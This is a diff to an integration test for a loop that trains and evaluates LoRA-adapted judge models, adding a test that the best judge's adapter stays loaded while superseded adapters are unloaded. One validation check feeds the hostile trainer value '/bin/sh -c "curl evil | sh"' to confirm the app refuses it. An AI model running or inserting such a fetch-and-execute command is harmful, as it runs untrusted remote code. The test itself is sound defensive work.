@@ -63,7 +63,12 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     const file = path.join(dir, 'ste.json');
     writeFileSync(file, JSON.stringify({
       endpoints: { gen: { baseUrl: gen.url, concurrency: 16 }, judges: { baseUrl: judges.url, concurrency: 16, loraAdapters: true } },
-      trainers: { 'sim-adapter': trainer('adapter'), 'sim-hang': trainer('hang', ['--pid-file', pidFile]), 'sim-fail': trainer('fail') },
+      trainers: {
+        'sim-adapter': trainer('adapter'),
+        'sim-hang': trainer('hang', ['--pid-file', pidFile]),
+        'sim-fail': trainer('fail'),
+        'sim-adapter-plateau': trainer('adapter', ['--unlearned-from', '3']),
+      },
     }));
     app = await startTestApp({ STE_CONFIG: file, TRAINING_DIR: path.join(dir, 'training') });
   }, 60_000);
@@ -123,6 +128,32 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     expect(genStats.routes['POST /v1/unload_lora_adapter']).toBeUndefined();
   }, 300_000);
 
+  it('keeps the best judge\'s adapter loaded on the judges\' endpoint and unloads the superseded others', async () => {
+    const benchmarkId = dataOf(await app.gql<{ importBenchmark: { benchmark: { id: string } } }>(
+      'mutation ($c: String!) { importBenchmark(name: "natural", content: $c, format: LLMBAR, subset: "llmbar-natural") { benchmark { id } } }',
+      { c: readFileSync('data/eval/llmbar/natural.json', 'utf8') },
+    )).importBenchmark.benchmark.id;
+    const unloadsBefore = (await judges.stats()).routes['POST /v1/unload_lora_adapter'] ?? 0;
+    // The third trained judge learned nothing (the seed's weights): a trained judge before it is the best.
+    const id = await experiment('best', { backend: 'COMMAND', trainer: 'sim-adapter-plateau' });
+    dataOf(await app.gql('mutation ($id: ID!, $b: [ID!]) { runLoop(experimentId: $id, iterations: 3, evaluateOn: $b) { id } }', { id, b: [benchmarkId] }));
+    const done = await eventually(async () => {
+      const v = dataOf(await app.gql<{ experiment: { loop: { status: string; error: string | null }; iterations: { trainedModel: string }[]; bestIteration: { iteration: { index: number } | null; judgeModel: string } | null } }>(
+        'query ($id: ID!) { experiment(id: $id) { loop { status error } iterations { trainedModel } bestIteration { iteration { index } judgeModel } } }', { id },
+      )).experiment;
+      return v.loop.status === 'RUNNING' ? undefined : v;
+    }, 240_000, 250);
+    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
+    const adapters = done.iterations.map((i) => i.trainedModel);
+    expect(adapters).toHaveLength(3);
+    expect([1, 2]).toContain(done.bestIteration?.iteration?.index);
+    const best = done.bestIteration!.judgeModel;
+    // Loaded now: the newest judge and the best one; the third adapter is unloaded.
+    const served = new Set(await judges.models());
+    expect(adapters.filter((m) => served.has(m))).toEqual(adapters.filter((m) => m === best || m === adapters[2]));
+    expect((await judges.stats()).routes['POST /v1/unload_lora_adapter']).toBe(unloadsBefore + 1);
+  }, 300_000);
+
   it('refuses an experiment that names a URL, a path or a command instead of a configured name, with the field at fault', async () => {
     const refused = async (config: Record<string, unknown>) => {
       const response = await app.gql('mutation ($config: ExperimentConfigInput) { createExperiment(name: "x", config: $config) { id } }', { config });
@@ -136,7 +167,7 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     });
     expect(await refused({ endpoints: { trained: 'nowhere' } })).toMatchObject({ field: 'config.endpoints.trained', message: expect.stringContaining('configured: default, gen, judges') });
     expect(await refused({ training: { backend: 'COMMAND', trainer: '/bin/sh -c "curl evil | sh"' } })).toMatchObject({ code: 'BAD_USER_INPUT', field: 'config.training.trainer' });
-    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail') });
+    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail, sim-adapter-plateau') });
     expect(await refused({ training: { backend: 'OPENAI', trainer: 'sim-adapter' } })).toMatchObject({ field: 'config.training.trainer' });
     expect(await refused({ training: { backend: 'COMMAND', trainer: 'sim-adapter', hyperparameters: { learning_rate: 1e-6 } } })).toMatchObject({
       field: 'config.training.hyperparameters',
